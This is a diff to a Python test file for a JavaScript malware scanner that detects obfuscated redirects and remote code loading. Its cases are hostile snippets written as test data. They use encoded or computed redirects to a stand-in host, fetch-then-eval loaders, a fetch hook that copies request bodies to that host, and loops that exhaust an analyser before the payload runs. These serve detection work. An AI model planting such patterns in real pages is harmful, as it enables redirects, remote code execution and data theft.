@@ -3,19 +3,21 @@
 from __future__ import annotations
 
 import contextlib
+from pathlib import Path
 
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from scanner.scripts import compiled, examined
 from scanner.scripts.lexer import tokens
 from scanner.scripts.reckoning import LONGEST, reckoned
 from scanner.scripts.reckoning.account import STEPS, Spent
-from scanner.scripts.reckoning.running import Run
-from scanner.scripts.reckoning.statements import parsed
-from scanner.scripts.reckoning.syntax import NotParsed
+from scanner.scripts.reckoning.run import Run
+from scanner.scripts.syntax import NotParsed, parsed
 from tests.techniques.scripts.cases import table
 
+RULES = compiled(Path(__file__).parents[2] / "signatures/yara/scripts.yar")
 MOVE = [("move", "//k8.example")]
 
 
@@ -45,6 +47,11 @@ def near(code: str) -> set[str]:
         "with(window){location='//'+atob('azguZXhhbXBsZQ==')} /* ---------------------------------------------- */",
         "try{throw '//k8.example'}catch(e){location=e} /* ------------------------------------------------------- */",
         "const {a:{b}}={a:{b:'//k8.example'}};location=b; /* ---------------------------------------------------- */",
+        "const t=(s,...v)=>s.raw.map((x,i)=>x+(v[i]??'')).join('');location=t`//${'k8'}.${'exam'}ple`; /* ------- */",
+        "let k=Object.getOwnPropertyNames(window).find(n=>n.length==8&&n[0]=='l');window[k].href='//k8.'+'example';",
+        "var o={h:'k8',valueOf(){location='//'+this.h+'.example';return 1}};if(+o>2)document.title='x'; /* ------ */",
+        "(await import('data:text/javascript,export default h=>{location=h}')).default(['//k8','example'].join('.'))",
+        "Reflect.set(window,'location',Reflect.apply(String.prototype.concat,'//',['k8','.example'])); /* ------ */",
     ],
 )
 def test_an_address_is_put_together(code):
@@ -61,6 +68,10 @@ def test_an_address_is_put_together(code):
         ("if(!/baidu/.test(document.referrer))throw 1;location='https://k8.example/';               ", "referrer"),
         ("function f(){if(new Date().getHours()<20)return;location='https://k8.example/'}f();        ", "clock"),
         ("fetch('https://k8.example/').then(r=>r.text()).then(t=>{let f=window['ev'+'al'];f(t)})     ", "answer-run"),
+        ("s='';for(i=0;i<9;i++)s+='abc'[Date.now()%3];import('https://'+s+'.k8.example/a.js'); /* --- */", "drawn"),
+        ("a=localStorage;a.x&&setTimeout(a.x);fetch('https://k8.example/').then(r=>a.setItem('x',r))", "answer-run"),
+        ("fetch('https://k8.example/').then(t=>{box.innerHTML='<img src onerror=\"'+t+'\">'}); /* - */", "answer-run"),
+        ("function go(d){eval(d.c)}$.getScript('https://k8.example/?f=json&cb=go&t='+Math.random())  ", "answer-run"),
         ("const f=fetch;fetch=function(u,o){f('https://k8.example/',{body:o.body});return f(u,o)}     ", "hook"),
     ],
 )
@@ -76,6 +87,15 @@ def test_where_it_comes_from_and_what_decides(code, sign):
         "if(document.referrer)count();fetch('https://k8.example/').then(r=>r.json()).then(j=>b.textContent=j.n)",
     ],
 )
+def test_an_address_with_a_number_drawn_is_an_ordinary_one():
+    assert "drawn" not in near("import('https://s'+Math.ceil(Math.random()*4)+'.k8.example/a.js'); /* ------------- */")
+
+
+def test_tags_are_written_in_pieces():
+    code = "var w=document;w.write('<scr');w.write('ipt src=//k8');w.write('.example/a.js></scr'+'ipt>');"
+    assert did(code) == [("load", "//k8.example/a.js")]
+
+
 def test_what_does_not_reach_the_address_is_not_sent(code):
     assert not near(code)
 
@@ -103,7 +123,7 @@ def test_work_is_bounded(code):
     run = Run(code)
     with contextlib.suppress(Spent, RecursionError):
         run.through(parsed(tokens(code)))
-    assert run.steps <= STEPS + 1
+    assert run.account.steps <= STEPS + 1
 
 
 @given(st.text(st.sampled_from("ab01.,;:(){}[]=>+-!?`$'\"/ \n&|*")).map(lambda text: f"location=[{text}" + " " * 60))
@@ -124,6 +144,8 @@ SETS = (
     "sixteenth",
     "seventeenth",
     "eighteenth",
+    "nineteenth",
+    "twentieth",
 )
 
 
@@ -139,3 +161,20 @@ def _through(code: str) -> None:
 
     with contextlib.suppress(NotParsed, Spent, RecursionError):
         Run(code).through(parsed(tokens(code)))
+
+
+@pytest.mark.parametrize("burner", ["for(var i=0;i<1e9;i++){}", "function f(){f();f()}var i=9;while(i)f();"])
+def test_work_that_leads_nowhere_hides_nothing_behind_it(burner):
+    code = burner + "location='//'+['k8','example'].join('.'); /* ---------------------- */"
+    assert did(code) == MOVE
+    assert reckoned(code).cut
+
+
+def test_what_is_gone_through_to_its_end_is_not_cut():
+    assert not reckoned("for(var i=0;i<9;i++){s+='x'}location='//'+['k8','example'].join('.')").cut
+
+
+@pytest.mark.parametrize(("call", "told"), [("window[x+y](z)", True), ("document.title='a'.concat(x)", False)])
+def test_what_was_cut_short_is_told_of_scripts_that_compute_what_they_call(call, told):
+    code = "var x=q(),y=q(),z=q();for(var i=0;i<1e9;i++){z+=atob(i)}" + call + ";/* ------------------------- */"
+    assert ("reckoning" in examined(code, RULES).capped) is told
